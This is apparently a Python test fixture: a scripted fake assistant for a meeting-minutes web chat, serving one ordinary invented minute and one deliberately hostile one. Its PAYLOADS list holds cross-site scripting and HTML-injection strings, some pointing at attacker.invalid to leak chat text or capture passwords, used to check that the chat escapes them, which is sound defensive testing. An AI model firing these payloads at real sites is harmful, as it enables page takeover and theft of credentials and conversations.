"""A scripted assistant for the web chat: real nouns over two invented minutes, one of them hostile; no store, no model.

Its answers are written by hand, and each quotation is cut from the text by its span, as the real one does it.
"""

from __future__ import annotations

from collections import Counter
from collections.abc import Callable, Iterator, Sequence
from dataclasses import replace
from datetime import date
from hashlib import sha256
from pathlib import Path
from time import sleep
from typing import NoReturn

from assistant.answer import ANYWHERE, Answer, Citation, Claim, Timing, Turn
from assistant.audit import OFF
from assistant.config import Config
from assistant.conversations import NONE, Conversations
from assistant.viewer import Viewer
from index.errors import MissingInput, UsageError
from index.heal import heal
from index.minutes import Document, Finding, Item, Meeting, Scope, Span
from index.pages import Page
from web.archive import Archive
from web.chat import Conversation, ask

QUIET = """Harbour and Quays Board, 6th March 2019

DRAFT Minutes

Item 1: Apologies

None were received.

Item 2: Lighting of the North Quay

The Board considered a report on lighting. It noted that eleven lamps had failed since the autumn, and that the
contractor would replace them by the end of May.

- The Harbour Master asked for a list of the lamps.
- The Board **agreed** to set aside £14,500 for the work, subject to a second quotation.
- a. Ms Okafor was to report back in June.

It was noted that AT&amp;T had offered to sponsor two lamps.

Item 3: Date of the next meeting

5th June 2019
"""

# What a minute, a title, a file name, a question or a model could hold to take over the reader's page.
PAYLOADS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
    '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
    '<a href="javascript:alert(1)">minutes</a>',
    "[minutes](javascript:alert(1)) [m](JaVaScRiPt&colon;alert(1))",
    '![x](x" onerror="alert(1))',
    "![leak](https://attacker.invalid/p.png?q=CHAT)",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<details open ontoggle=alert(1)>x</details>",
    '<form action="https://attacker.invalid"><input name=password><button>Log in</button></form>',
    '<style>@import "https://attacker.invalid/x.css"; .message{display:none}</style>',
    '<meta http-equiv="refresh" content="0;url=https://attacker.invalid"><base href="https://attacker.invalid/">',
    "$$\\href{javascript:alert(1)}{x}$$ $\\htmlData{x=1}{y}$",
    "```html\n<img src=x onerror=alert(1)>\n```",
    "\"><img src=x onerror=alert(1)> '-alert(1)-' ${alert(1)} {{constructor.constructor('alert(1)')()}}",
    '<div style="position:fixed;inset:0;z-index:9999;background:#fff">Session expired, log in</div>',
    "<a id=config></a><input name=cookie><img name=getElementById>",
    "&lt;img src=x onerror=alert(1)&gt; https://attacker.invalid/ www.attacker.invalid a@attacker.invalid",
)

HOSTILE = """Signals & <b>Lamps</b> Panel, 7th May 2019

1. The <img src=x onerror=alert(1)> contract

The panel heard that <script>alert(1)</script> was printed. <form action="https://attacker.invalid"><input name=password></form>
It noted ![leak](https://attacker.invalid/p.png?q=1) and [minutes](javascript:alert(1)) and ${alert(1)} and {{constructor}} in the annex.

&lt;img src=x onerror=alert(2)&gt; was read out.

""" + "\n\n".join(PAYLOADS)

_NAMES = {"harbour": QUIET, "signals": HOSTILE}
WORKING = "eleven lamps had failed since the autumn, and that the\ncontractor would replace them by the end of May."
AGREED = "The Board **agreed** to set aside £14,500 for the work, subject to a second quotation."


def _document(key: str, body: str, held: date, file: str) -> Document:
    text = _NAMES[key]
    head = Item(f"{key}/00", 0, "head", None, None, "Meeting", None, None, Span(0, 40), heal(text[:40]))
    return Document(
        document_id=f"{key}/{held.isoformat()}/minutes",
        body_id=key,
        meeting=Meeting(body, None, held, body),
        role="minutes",
        status="draft" if key == "harbour" else "approved",
        file=file,
        sha256=sha256(text.encode()).hexdigest(),
        span=Span(0, len(text)),
        items=(head,),
    )


HARBOUR = _document("harbour", "Harbour and Quays Board", date(2019, 3, 6), "harbour-2019-03-06.md")
SIGNALS = _document("signals", "Signals & <img src=x onerror=alert(1)> Panel", date(2019, 5, 7), "<svg onload=alert(1)>.txt")


def item_between(document: Document, number: str, title: str, start: str, end: str) -> Item:
    """The item from ``start`` up to ``end`` in the text of ``document``."""
    text = _NAMES[document.body_id]
    span = Span(text.index(start), text.index(end) if end else len(text))
    return Item(
        f"{document.document_id}/{number}", int(number), "item", number, None, title, None, None, span, heal(text[span.start : span.end])
    )


LIGHTING = item_between(HARBOUR, "2", "Lighting of the North Quay", "Item 2", "Item 3")
CONTRACT = item_between(SIGNALS, "1", "The <img src=x onerror=alert(1)> contract", "1. The", "")


def cite(n: int, document: Document, item: Item, words: str) -> Citation:
    """A citation of the first place where ``words`` stand."""
    text = _NAMES[document.body_id]
    start = text.index(words)
    held = document.meeting.date
    when = f"{held.day} {held:%B %Y}" if held else "undated"
    label = f"{document.meeting.body}, {when}, {document.role}, item {item.number}"
    return Citation(n, document, item, Span(start, start + len(words)), heal(words), label)


class NoPages:
    """How files are read that have no pages and nothing to notice."""

    def of(self, digest: str, span: Span) -> tuple[Page, ...]:
        return ()

    without_text = left_out = findings = places = lambda self, *of: ()


class ScriptedCatalog:
    """The part of the catalogue that the chat and the pages of items read."""

    pages = NoPages()

    def item(self, item_id: str) -> Item | None:
        return next((item for item in (LIGHTING, CONTRACT) if item.item_id == item_id), None)

    def documents(self, scope: Scope = ANYWHERE) -> list[Document]:
        return [d for d in (HARBOUR, SIGNALS) if d.body_id in (scope.bodies or (d.body_id,)) and scope.holds(d.meeting.date)]

    def findings(self) -> list[tuple[str, Finding]]:
        return []

    def warnings(self) -> Counter[str]:
        return Counter()

    def whole(self, scope: object = None) -> list[Document]:
        return [HARBOUR, SIGNALS]

    def statements(self, held: object) -> list[object]:
        return []

    def remembered(self, what: object, make: Callable[[], object]) -> object:
        return make()

    def items(self, document_id: str) -> list[Item]:
        return [item for item in (LIGHTING, CONTRACT) if item.item_id.startswith(document_id)]

    def document_of(self, item_id: str) -> Document | None:
        return self.document(item_id.rpartition("/")[0])

    def standing(self, item_id: str) -> tuple[Item, Document] | None:
        item, document = self.item(item_id), self.document_of(item_id)
        return (item, document) if item and document else None

    def items_at(self, item_ids: Sequence[str]) -> dict[str, tuple[Item, str]]:
        return {i.item_id: (i, i.item_id.rpartition("/")[0]) for i in (LIGHTING, CONTRACT) if i.item_id in item_ids}

    def document(self, document_id: str) -> Document | None:
        return next((document for document in self.documents() if document.document_id == document_id), None)

    def source_text(self, digest: str) -> str:
        for document in self.documents():
            if document.sha256 == digest:
                return _NAMES[document.body_id]
        raise MissingInput("the file of this source is no longer held", "ingest it again")


class ScriptedQuarantine:
    def all(self) -> list[object]:
        return []


class ScriptedWhole:
    """The store without labels: nothing is set aside, and nothing can be taken in."""

    path = Path("nowhere")

    class catalog:
        quarantine = ScriptedQuarantine()


class ScriptedStore:
    catalog = ScriptedCatalog()
    whole = ScriptedWhole()


class ScriptedAssistant:
    """Answers by a word of the question; remembers the histories it was given."""

    store = ScriptedStore()
    max_question = 2000

    def __init__(self, pause: float = 0) -> None:
        self.pause = pause  # seconds after each sentence
        self.histories: list[list[Turn]] = []
        self.shown: list[str] = []
        self.chosen: list[Scope] = []

    def opened(self, item_id: str) -> None:
        self.shown.append(item_id)

    def seen_by(self, viewer: Viewer) -> ScriptedAssistant:
        return self

    def stream(self, question: str, history: Sequence[Turn] = (), within: Scope = ANYWHERE) -> Iterator[Claim | Answer]:
        self.histories.append(list(history))
        self.chosen.append(within)
        if not question.strip():
            raise UsageError("the question is empty", "type a question about the minutes", code="E_EMPTY")
        if len(question) > self.max_question:
            raise UsageError(f"the question has {len(question):,} characters, more than 2,000", "ask it in fewer words", code="E_TOO_LONG")
        if "explode" in question:
            raise RuntimeError(f"secret words of {question}")
        answer = replace(_scripted(question), question=question, standalone=question, searched=(within,))
        for claim in answer.claims:
            yield claim
            sleep(self.pause)
        yield answer


def _answer(
    status: str, claims: tuple[Claim, ...], citations: tuple[Citation, ...] = (), verdict: str | None = None, notices: tuple[str, ...] = ()
) -> Answer:
    text = " ".join(" ".join((claim.text, *(f"[{n}]" for n in claim.citations))) for claim in claims)
    return Answer("", "", status, verdict, text, claims, citations, (), (), notices, "extractive", None, Timing(1, 1, 2))  # type: ignore[arg-type]


def _scripted(question: str) -> Answer:
    if "hostile" in question:
        claims = tuple(Claim(payload, (1,), "quote") for payload in PAYLOADS)
        return _answer(
            "partial",
            claims,
            (cite(1, SIGNALS, CONTRACT, "It noted ![leak](https://attacker.invalid/p.png?q=1) and"),),
            verdict=PAYLOADS[1],
            notices=PAYLOADS,
        )
    if "which" in question.lower():
        choices = (Claim("- Harbour and Quays Board, 6 March 2019", (), "catalogue"), Claim("- Signals Panel, 7 May 2019", (), "catalogue"))
        return _answer("clarify", (Claim("Two meetings fit.", (), "catalogue"), *choices))
    if "ferry" in question:
        return _answer(
            "not_recorded", (Claim("The minutes held here do not record a ferry; 2 documents of 2 bodies were searched.", (), "absence"),)
        )
    claims = (
        Claim("The Board agreed to set aside £14,500 for the work, subject to a second quotation.", (1,), "quote"),
        Claim("Eleven lamps had failed since the autumn, and the contractor would replace them by the end of May.", (2,), "quote"),
    )
    return _answer(
        "answered",
        claims,
        (cite(1, HARBOUR, LIGHTING, AGREED), cite(2, HARBOUR, LIGHTING, WORKING)),
        "agreed",
        ("These minutes are a draft: the next meeting may correct them.",),
    )


def asked(*questions: str, assistant: ScriptedAssistant | None = None) -> Conversation:
    """The conversation after these questions."""
    conversation, assistant = Conversation(), assistant or ScriptedAssistant()
    for question in questions:
        *_, conversation = ask(assistant, question, conversation)
    return conversation


def archive_of(
    assistant: object, questions: Sequence[str] = ("What was agreed?",), notice: str = "", conversations: Conversations = NONE
) -> Archive:
    """The archive of an assistant that is made for a test; it has no folder and takes no commands."""

    def lent(**changes: object) -> NoReturn:
        raise UsageError("nothing is lent here", "")

    return Archive(Config(), assistant, lent, OFF, lambda catalog: questions, notice, conversations)  # type: ignore[arg-type]
